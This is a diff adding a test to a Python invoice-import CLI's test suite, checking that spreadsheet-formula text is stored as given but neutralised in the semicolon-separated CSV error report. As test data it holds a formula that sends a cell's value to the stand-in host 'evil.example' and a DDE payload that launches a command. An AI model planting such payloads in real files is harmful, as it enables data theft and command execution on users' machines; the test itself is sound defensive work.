@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -114,6 +116,34 @@ def test_rejected_rows_and_rejected_files_set_the_exit_code(stack, state_file, t
         counts(),
     )
     assert "refusé, rien n’a été importé" in done.stderr
+
+
+def test_text_that_opens_as_a_formula_is_stored_as_given_and_neutralised_in_the_csv_report(stack, state_file, tmp_path):
+    cid = unique_id("K")
+    cli("import", str(write(tmp_path, "parents.jsonl", parents(cid))), "--state-file", str(state_file))
+    formula = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
+    field = "=cmd|' /C calc'!A0"
+    rows = [
+        {"kind": "invoice", **invoice(cid, "F-1", debtor_name=formula, paid_at=None)},
+        {"kind": "invoice", **invoice(cid, "F-2", debtor_name="-Mme +X @Y", paid_at=None), field: "1"},
+    ]
+    path = write(tmp_path, "formules.jsonl", "".join(json.dumps(r) + "\n" for r in rows))
+    out = tmp_path / "rapport.csv"
+    done = cli("import", str(path), "--state-file", str(state_file), "--no-progress", "--csv", str(out))
+    assert done.returncode == 1, done.stderr
+    item = stack.aws.client("dynamodb").get_item(
+        TableName=stack.info()["tables"]["Table"],
+        Key={"PK": {"S": f"INV#{invoice_id(cid, 'F-1')}"}, "SK": {"S": "INV"}},
+    )
+    assert item["Item"]["debtor_name"] == {"S": formula}  # stored as given
+    assert report_of(done)["errors"][0]["field"] == field  # the JSON report too
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    back = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert back == [
+        ["ligne", "niveau", "type", "champ", "raison"],
+        ["2", "erreur", "invoice", "'" + field, "champ inconnu"],
+    ]
 
 
 def test_a_deployed_stack_is_found_by_its_name(stack, tmp_path):
